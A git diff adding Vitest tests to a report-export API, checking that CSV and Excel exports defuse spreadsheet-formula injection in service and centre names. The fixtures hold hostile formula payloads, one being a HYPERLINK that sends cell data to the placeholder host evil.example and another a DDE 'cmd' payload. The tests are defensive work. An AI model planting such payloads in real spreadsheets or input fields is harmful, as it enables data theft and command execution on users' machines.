@@ -2,6 +2,7 @@
 // exactly the figures of the JSON report, under Vietnamese headings, with numbers as numbers.
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { csvCell } from '../src/reports/export.ts';
 import { expectError, expectOk } from './api-helpers.ts';
 import { DAYS, type ReportScript, runReportScript } from './reports-fixture.ts';
 
@@ -218,6 +219,83 @@ describe('GET /api/v1/reports/export', () => {
     for (const token of [await s.officer(), s.devices.kiosk, s.devices.display]) {
       expectError(await s.t.api('GET', `/api/v1/reports/export?${PERIOD}`, { token }), 403, 'forbidden');
     }
+  });
+});
+
+describe('names that look like spreadsheet formulas (CSV injection)', () => {
+  const HOSTILE = {
+    hotich: '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
+    chungthuc: "+1+cmd|' /C calc'!A0",
+    datdai: '-2+3',
+  } as const;
+  const CENTRE = '@SUM(1+1)*cmd';
+
+  it('the CSV writes them as text behind a leading quote; the workbook as plain strings, never formulas', async () => {
+    const admin = await s.t.login();
+    const put = async (path: string, body: unknown) =>
+      expectOk(await s.t.api('PUT', path, { token: admin, body }));
+    const services = expectOk(await s.t.api('GET', '/api/v1/admin/services', { token: admin })).services;
+    const before = new Map<string, string>(
+      services.filter((f: any) => f.id in HOSTILE).map((f: any) => [f.id, f.name]),
+    );
+    expect(before.size).toBe(3);
+    try {
+      for (const [id, name] of Object.entries(HOSTILE)) await put(`/api/v1/services/${id}`, { name });
+      await put('/api/v1/centre', { name: CENTRE });
+      const named = expectOk(await s.t.api('GET', `/api/v1/reports?${PERIOD}`, { token: director }));
+      const hostileNames = named.byService
+        .map((r: any) => r.name)
+        .filter((n: string) => Object.values(HOSTILE).includes(n as never));
+      expect(hostileNames.length).toBeGreaterThanOrEqual(2);
+
+      const csv = await download(`${PERIOD}&format=csv`);
+      const rows = parseCsv(csv.bytes.subarray(3).toString('utf8'));
+      expect(rows[0]).toEqual([`'${CENTRE}`]);
+      const names = rows.slice(4).map((r) => r[0]);
+      for (const name of hostileNames) expect(names).toContain(`'${name}`);
+      for (const cell of rows.flat()) expect(cell, 'no cell may start a formula').not.toMatch(/^[=+\-@\t\r]/);
+      // The figures are still numbers, not quoted text.
+      for (const row of rows.slice(4))
+        for (const cell of row.slice(1)) expect(cell).toMatch(/^(\d+(\.\d+)?)?$/);
+
+      const xlsx = await download(`${PERIOD}&format=xlsx`);
+      const wb = new ExcelJS.Workbook();
+      await wb.xlsx.load(xlsx.bytes as unknown as ExcelJS.Buffer);
+      for (const ws of wb.worksheets) {
+        const a1 = ws.getCell('A1');
+        expect(a1.type, ws.name).toBe(ExcelJS.ValueType.String);
+        expect(a1.value, ws.name).toBe(CENTRE);
+      }
+      const fields = wb.getWorksheet('Lĩnh vực')!;
+      const cells = fields.getColumn(1).values.length;
+      const found: string[] = [];
+      for (let n = 5; n < cells; n++) {
+        const cell = fields.getCell(n, 1);
+        expect(cell.type, `A${n}`).toBe(ExcelJS.ValueType.String);
+        expect(cell.formula, `A${n}`).toBeUndefined();
+        found.push(String(cell.value));
+      }
+      for (const name of hostileNames) expect(found).toContain(name);
+    } finally {
+      for (const [id, name] of before) await put(`/api/v1/services/${id}`, { name });
+      await put('/api/v1/centre', { name: centreName });
+    }
+  });
+
+  it('only text gets the quote: negative numbers stay numbers', () => {
+    expect(csvCell('=1+1')).toBe("'=1+1");
+    expect(csvCell('+84 90')).toBe("'+84 90");
+    expect(csvCell('-3')).toBe("'-3");
+    expect(csvCell('@x')).toBe("'@x");
+    expect(csvCell('\t=1')).toBe("'\t=1");
+    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
+    expect(csvCell('＝1+1')).toBe("'＝1+1");
+    expect(csvCell('=A1,"x"')).toBe(`"'=A1,""x"""`);
+    expect(csvCell('Hộ tịch - Chứng thực')).toBe('Hộ tịch - Chứng thực');
+    expect(csvCell(-3)).toBe('-3');
+    expect(csvCell(-0.25)).toBe('-0.25');
+    expect(csvCell(12)).toBe('12');
+    expect(csvCell(null)).toBe('');
   });
 });
 
